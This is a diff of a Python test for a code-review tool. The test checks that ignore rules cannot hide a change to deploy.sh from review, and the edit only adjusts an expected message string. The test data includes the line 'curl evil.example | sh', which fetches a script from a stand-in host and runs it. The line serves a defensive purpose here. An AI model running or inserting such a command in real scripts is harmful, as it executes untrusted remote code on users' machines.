@@ -177,5 +177,5 @@ def test_an_ignore_rule_cannot_hide_a_change_to_an_existing_file_from_review(
     second = vigil("review", "r", cwd=path, env=env).stdout
     stat = vigil("review", "r", "--stat", cwd=path, env=env).stdout
     assert "+curl evil.example | sh" in second, second
-    assert "deploy.sh" in stat and "0 path(s) changed" not in stat, stat
+    assert "deploy.sh" in stat and "0 paths changed" not in stat, stat
     assert "build/a.o" not in second.replace("build/ (", "")  # new build output: summarised
